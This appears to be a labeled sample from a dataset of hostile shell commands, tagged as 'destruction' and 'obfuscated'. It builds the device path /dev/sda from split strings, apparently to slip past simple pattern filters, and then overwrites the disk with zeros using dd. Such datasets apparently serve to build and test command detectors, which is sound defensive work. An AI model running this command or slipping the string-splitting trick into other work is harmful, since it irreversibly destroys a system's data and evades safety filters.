# description: Builds the device path /dev/sda from pieces and overwrites it with dd.
# family: destruction
# obfuscated: yes
D=/dev/s
D=${D}da
dd if=/dev/zero of=$D bs=1M
